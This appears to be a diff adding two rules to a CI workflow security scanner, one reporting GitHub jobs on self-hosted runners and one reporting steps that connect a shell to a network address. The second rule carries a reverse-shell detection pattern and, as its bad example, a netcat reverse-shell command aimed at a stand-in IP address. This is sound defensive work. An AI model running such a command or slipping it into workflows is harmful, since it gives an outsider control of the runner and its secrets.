@@ -1,0 +1,71 @@
+import { lookIn, mapsOf, scalar, type MapValue, type Value } from '../../server/rule/queries.ts';
+import { mapOfResource, objectRule } from '../_kubernetes.ts';
+import { file, steps, workflow } from '../_workflows.ts';
+
+export default [
+  objectRule({
+    id: 'workload/self-hosted-runner',
+    title: "Job on a machine of one's own",
+    severity: 'info',
+    confidence: 'medium',
+    types: ['github_job'],
+    file,
+    what: 'Reports jobs on self-hosted runners.',
+    why: 'What a job leaves on the machine meets the next one; in a public repository strangers can start jobs there.',
+    references: ['AC-6', 'SC-39'],
+    whenNotToUse: 'For runners that are made anew for every job.',
+    check: (resource, tell) => {
+      const direct = lookIn(mapOfResource(resource), 'runs-on')
+        .values.flatMap((value) =>
+          value.kind === 'list'
+            ? value.items
+            : value.kind === 'map'
+              ? [value.entries.get('labels')?.value ?? value, value.entries.get('group')?.value ?? value]
+              : [value],
+        )
+        .flatMap((value) => (value.kind === 'list' ? value.items : [value]));
+      const named = direct.flatMap((value) => (value.kind === 'string' ? [/^\$\{\{\s*matrix\.([\w-]+)/.exec(value.value)?.[1] ?? []].flat() : []));
+      const strategy = lookIn(mapOfResource(resource), 'strategy.matrix').values[0];
+      const excluded = lookIn(mapOfResource(resource), 'strategy.matrix.exclude')
+        .values.flatMap((value) => (value.kind === 'list' ? value.items : [value]))
+        .flatMap(mapsOf);
+      const expanded: Value[] =
+        strategy?.kind === 'map'
+          ? named.flatMap((name) =>
+              [...lookIn(strategy, name).values, ...lookIn(strategy, `include.${name}`).values]
+                .flatMap((value) => (value.kind === 'list' ? value.items.flatMap((item) => (item.kind === 'list' ? item.items : [item])) : [value]))
+                .filter((value) => !excluded.some((map: MapValue) => scalar(map.entries.get(name)?.value) === scalar(value))),
+            )
+          : [];
+      const hit =
+        [...direct, ...expanded].find((value) => value.kind === 'string' && value.value === 'self-hosted') ??
+        direct.find((value, index) => index > 0 && value.kind === 'map');
+      const group = lookIn(mapOfResource(resource), 'runs-on.group').values[0];
+      if (!hit && group && lookIn(mapOfResource(resource), 'runs-on.labels').values.length === 0)
+        tell(group, `Job "${resource.name}" runs on a group of machines that may be one's own.`);
+      if (hit) tell(direct[0]?.kind === 'string' && expanded.includes(hit) ? direct[0] : hit, `Job "${resource.name}" runs on a machine of its own.`);
+    },
+    bad: 'name: train\non: push\npermissions: {}\njobs:\n  a:\n    runs-on: self-hosted\n             ^^^^^^^^^^^\n    steps:\n      - run: make\n',
+    good: workflow('push', ...steps('- run: make')),
+  }),
+  objectRule({
+    id: 'workload/reverse-shell',
+    title: 'Shell for somebody else',
+    severity: 'high',
+    types: ['github_step'],
+    file,
+    what: 'Reports scripts that connect a shell to a network address.',
+    why: 'Whoever listens there commands the runner and has its secrets.',
+    references: ['CWE-506', 'SI-3'],
+    check: (resource, tell) => {
+      const run = resource.attributes.get('run')?.value;
+      if (
+        run?.kind === 'string' &&
+        /\b(?:nc|ncat|netcat)\b[^\n]*(?:-e|-c)\b|bash\s+-i\s*>&\s*\/dev\/tcp\/|\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*\d{1,3}(?:\.\d{1,3}){3}/.test(run.value)
+      )
+        tell(run, `"${resource.name}" connects a shell to the network.`);
+    },
+    bad: workflow('push', ...steps('- run: nc -e /bin/sh 203.0.113.4 4444', '       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^')),
+    good: workflow('push', ...steps('- run: make')),
+  }),
+];
